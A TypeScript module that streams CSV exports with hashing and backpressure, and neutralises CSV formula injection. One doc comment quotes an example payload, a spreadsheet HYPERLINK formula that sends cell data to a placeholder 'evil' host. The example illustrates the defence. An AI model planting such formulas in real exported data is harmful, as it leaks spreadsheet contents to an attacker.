// CSV with csv-stringify: one batch at a time (the sync API per batch is several times faster than one stream event per
// record, and memory still holds one batch), written with backpressure to the file handle. Each chunk is hashed
// (SHA-256) and, when asked, copied to the zip's entry as it is written, so the file is never read back.
import { createHash } from "node:crypto";
import type { Writable } from "node:stream";
import { stringify } from "csv-stringify/sync";
import { abandon, drained, endStream, fileStream } from "./durable-file";

export interface CsvOptions {
  /** Written first, verbatim (the `# CONFIDENTIAL …` line), or null. */
  comment: string | null;
  header: string[];
}

export interface CsvWritten {
  /** Data rows (the header and the comment not counted). */
  rows: number;
  bytes: number;
  /** SHA-256 (hex) of the bytes written. */
  sha256: string;
}

/**
 * Writes the file; `rows` yields batches already in file order. `copy` (the zip's entry) gets every byte too and is
 * ended after the last. On failure the descriptor is closed (abandon) and `copy` destroyed.
 */
export async function writeCsv(fd: number, opts: CsvOptions, rows: AsyncIterable<unknown[][]>, copy?: Writable): Promise<CsvWritten> {
  const out = fileStream(fd);
  const hash = createHash("sha256");
  let count = 0;
  let bytes = 0;
  // One chunk in flight to the file and about one in the copy's pipeline, each awaited before the next is handed over:
  // a chunk that waited in a queue across two young-generation GCs would be promoted, and its buffer (outside the
  // heap) freed only by the next full GC, so RSS would climb by tens of MB between full GCs.
  let inFlight: Promise<void> = Promise.resolve();
  const write = async (text: string) => {
    const chunk = Buffer.from(text, "utf8");
    hash.update(chunk);
    bytes += chunk.length;
    await inFlight;
    inFlight = new Promise<void>((resolve, reject) => out.write(chunk, (err) => (err ? reject(err) : resolve())));
    inFlight.catch(() => {});
    if (copy && !copy.write(chunk)) await drained(copy);
  };
  try {
    if (opts.comment) await write(opts.comment);
    await write(stringify([opts.header], CSV_OPTS));
    for await (const batch of rows) {
      if (batch.length === 0) continue;
      await write(stringify(batch, CSV_OPTS));
      count += batch.length;
    }
    await inFlight;
    await endStream(out);
    if (copy) await endStream(copy);
  } catch (err) {
    copy?.destroy();
    await abandon(out);
    throw err;
  }
  return { rows: count, bytes, sha256: hash.digest("hex") };
}

/**
 * CSV injection (OWASP): a spreadsheet runs a cell that starts with = @ + - (or a tab or CR before one) as a formula, and
 * warehouse values come from marketplace users (a name like `=HYPERLINK("https://evil/?"&A1)`). Such a cell gets a
 * leading `'`, which spreadsheets show as text. Numbers and phone-like text starting with + or - (`+1 415 555 0123`,
 * `-15000`) stay as they are, so ordinary values are never changed; masked values never start with these characters
 * except the masked phone's `+•…`, which is phone-like.
 */
export function neutraliseFormula(value: string): string {
  const c = value.charCodeAt(0);
  // = @ TAB CR
  if (c === 61 || c === 64 || c === 9 || c === 13) return `'${value}`;
  // + -
  if ((c === 43 || c === 45) && !PHONE_OR_NUMBER.test(value)) return `'${value}`;
  return value;
}

const PHONE_OR_NUMBER = /^[+-][0-9\u2022 ().-]*$/;

// RFC 4180 line ends.
const CSV_OPTS = { record_delimiter: "\r\n", cast: { string: neutraliseFormula } } as const;
